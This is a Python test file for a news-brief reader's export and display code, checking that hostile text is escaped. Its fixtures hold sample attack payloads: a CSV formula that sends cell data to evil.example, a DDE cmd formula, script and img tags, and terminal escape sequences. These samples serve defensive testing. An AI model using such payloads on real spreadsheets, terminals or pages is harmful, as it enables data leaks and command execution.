"""Hostile text made inert: Qt rich text, the terminal, JSON, CSV cells and Markdown exports
(a title that is a formula, a note that is a tag, a brief holding raw HTML)."""

from __future__ import annotations

import csv
import datetime as dt
import html
import io
import json
from collections.abc import Iterator
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from briefreader.core.dossier import DossierHead, dossier_html, dossier_markdown
from briefreader.core.glossary import Glossary
from briefreader.core.library import Library
from briefreader.core.records import CommentSentence
from briefreader.core.safetext import (
    csv_cell,
    json_text,
    markdown_cell,
    markdown_code,
    markdown_source,
    markdown_text,
    rich_text,
    terminal_text,
)
from briefreader.core.userdata import UserData
from briefreader.core.userexport import brief_markdown, export_rows, render_export

FORMULA_TITLE = '=HYPERLINK("http://evil.example/?"&A1,"click")'
FORMULA_NOTE = "=cmd|' /C calc'!A0"
TAG = "<img src='/dev/zero'>"

GLOSSARY = """
[[actor]]
name = "Popular Mobilization Forces"
kind = "militia"
aliases = ["PMF"]
"""

BRIEFS = {
    "formula.md": f"Title: {FORMULA_TITLE}\nDate: 2020-01-03\nSource: +44 Wire\n\n"
    "A drone over the PMF base.\n\nComment: -1 for the plot.\n",
    "tagged.md": f"Title: Drone {TAG}\nDate: 2020-01-04\nSource: <b>Reuters</b>\n\n"
    "A drone <script>alert(1)</script> near the PMF | airport & more.\n\n"
    "> a quote stays a quote\n\nComment: Old news.\n",
}


@pytest.fixture
def lib(tmp_path: Path) -> Iterator[Library]:
    corpus = tmp_path / "corpus"
    corpus.mkdir()
    for name, text in BRIEFS.items():
        (corpus / name).write_text(text, "utf-8")
    gloss = tmp_path / "glossary.toml"
    gloss.write_text(GLOSSARY, "utf-8")
    library = Library([corpus], tmp_path / "data", Glossary.load([gloss]))
    library.update(bulk=False)
    yield library
    library.close()


@pytest.fixture
def ud(lib: Library) -> Iterator[UserData]:
    with UserData.open(lib.data_dir) as db:
        yield db


# -- the helpers ---------------------------------------------------------------------------


def test_rich_text_is_escaped_and_always_rich() -> None:
    out = rich_text(f"{TAG}\nsecond line & more")
    assert out.startswith("<p") and out.endswith("</p>")
    assert "<img" not in out and "&lt;img src='/dev/zero'&gt;" in out
    assert "\nsecond line &amp; more" in out
    # Long lines are wrapped between words; Qt wraps nothing (white-space: pre).
    long = rich_text("word " * 40)
    assert "white-space:pre'" in long and long.count("\n") == 2
    assert rich_text("") == ""
    # Qt guesses rich text from the first line: "&lt;" there, or a tag, makes it rich.
    assert "<img" not in rich_text(f"&lt; {TAG}")


@given(st.text())
def test_rich_text_holds_no_markup_but_its_own(text: str) -> None:
    out = rich_text(text)
    if text:
        inner = out[out.index(">") + 1 : -len("</p>")]
        assert "<" not in inner and ">" not in inner
        shown = html.unescape(inner)
        assert "".join(shown.split()) == "".join(text.split())  # only wrapped, never changed
        if all(len(line) <= 80 for line in text.splitlines()):
            assert shown == "\n".join(text.splitlines())


def test_terminal_text_escapes_controls_but_newline_and_tab() -> None:
    title = "\x1b]0;owned\x07Title\x1b[2J\x9b31m\x7f"
    assert terminal_text(title) == "\\x1b]0;owned\\x07Title\\x1b[2J\\x9b31m\\x7f"
    assert terminal_text("a\tb\nc\rd\x00") == "a\tb\nc\\x0dd\\x00"
    assert terminal_text("Baghdad — بغداد “quoted”") == "Baghdad — بغداد “quoted”"


@given(st.text())
def test_terminal_text_leaves_no_control(text: str) -> None:
    out = terminal_text(text)
    assert not any((ord(c) < 32 and c not in "\t\n") or 0x7F <= ord(c) <= 0x9F for c in out)


def test_json_text_escapes_c1_and_reads_back() -> None:
    data = {"title": "a\x1b[2J\x9b\x85\u2028b", "name": "بغداد"}
    out = json_text(data)
    assert not any(0x7F <= ord(c) <= 0x9F or c in "\x1b\u2028" for c in out)
    assert "بغداد" in out
    assert json.loads(out) == data


def test_csv_cell_quotes_what_starts_like_a_formula() -> None:
    for value in ("=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", FORMULA_TITLE):
        assert csv_cell(value) == "'" + value
    for value in ("plain", " =1", "", "2020-01-03", "a=b"):
        assert csv_cell(value) == value
    assert csv_cell(-3) == -3 and csv_cell(None) is None


def test_markdown_helpers() -> None:
    assert markdown_text(f"{TAG} & co") == "&lt;img src='/dev/zero'&gt; &amp; co"
    assert markdown_cell("a|b\nc <b>") == "a\\|b c &lt;b&gt;"
    assert markdown_source("> quote <b>&") == "> quote &lt;b>&amp;"
    assert markdown_code("a.md") == "`a.md`"
    assert markdown_code("a`b<i>") == "``a`b<i>``"
    assert markdown_code("`x") == "`` `x ``"


# -- the exports -----------------------------------------------------------------------------


def test_csv_export_writes_formulas_as_text(lib: Library, ud: UserData) -> None:
    ud.add_note(lib.brief("formula.md"), FORMULA_NOTE)
    res = lib.search("drone", limit=10)
    text = render_export(export_rows(lib, ud, res.hits), "csv")
    rows = {r["id"]: r for r in csv.DictReader(io.StringIO(text))}
    assert rows["formula.md"]["title"] == "'" + FORMULA_TITLE
    assert rows["formula.md"]["notes"] == "'" + FORMULA_NOTE
    assert rows["formula.md"]["source"] == "'+44 Wire"
    for row in rows.values():
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r"))


def test_markdown_export_passes_no_raw_html(lib: Library, ud: UserData) -> None:
    ud.add_note(lib.brief("tagged.md"), f"see {TAG} | and <script>x</script>")
    res = lib.search("drone", limit=10)
    md = render_export(export_rows(lib, ud, res.hits), "md", f"drone {TAG}")
    assert "<img" not in md and "<script" not in md and "<b>" not in md
    assert "&lt;img src='/dev/zero'&gt;" in md
    table = [line for line in md.splitlines() if line.startswith("| ")]
    # Every row keeps its seven cells: no pipe from a note splits one.
    for line in table:
        assert len(line.replace("\\|", "").split(" | ")) == 7


def test_json_export_holds_no_raw_control(lib: Library, ud: UserData) -> None:
    ud.add_note(lib.brief("tagged.md"), "bell \x07 and CSI \x9b2J")
    res = lib.search("drone", limit=10)
    text = render_export(export_rows(lib, ud, res.hits), "json", "drone")
    assert "\x07" not in text and "\x9b" not in text
    notes = [h["notes"] for h in json.loads(text)["hits"] if h["id"] == "tagged.md"]
    assert notes == [["bell \x07 and CSI \x9b2J"]]


def test_brief_markdown_escapes_the_brief_and_its_notes(lib: Library, ud: UserData) -> None:
    b = lib.brief("tagged.md")
    start = b.text.index("near the PMF")
    ud.add_highlight(b, "article", start, start + len("near the PMF"), f"why {TAG}?")
    ud.add_note(b, "<iframe src=x></iframe>")
    text = brief_markdown(b, ud.notes(b.id))
    assert "<img" not in text and "<script" not in text and "<iframe" not in text
    assert "<b>" not in text
    assert "A drone &lt;script>alert(1)&lt;/script> ==near the PMF==" in text
    assert "==near the PMF==" in text
    assert "\n> a quote stays a quote" in text  # the brief's Markdown is kept
    assert "&amp; more" in text


def test_dossier_escapes_html_and_its_quotes_read_back() -> None:
    text = f"The <b>PMF</b> said {TAG} & left."
    start = text.index("PMF")
    c = CommentSentence(
        "x.md", dt.date(2020, 1, 3), f"Title {TAG}", text, 10, 10 + len(text),
        ((start, start + 3),),
    )  # fmt: skip
    head = DossierHead(f"PMF {TAG}", "militia", 1, 1, 1, 0)
    md = dossier_markdown(head, [c], today=dt.date(2026, 1, 1))
    assert "<img" not in md and "<b>" not in md
    assert "&lt;b&gt;**PMF**&lt;/b&gt;" in md
    quote = next(line for line in md.splitlines() if line.startswith("> "))
    assert html.unescape(quote[2:].replace("**", "")) == text
    page = dossier_html(head, [c])
    assert "<img" not in page and "&lt;b&gt;<b>PMF</b>&lt;/b&gt;" in page
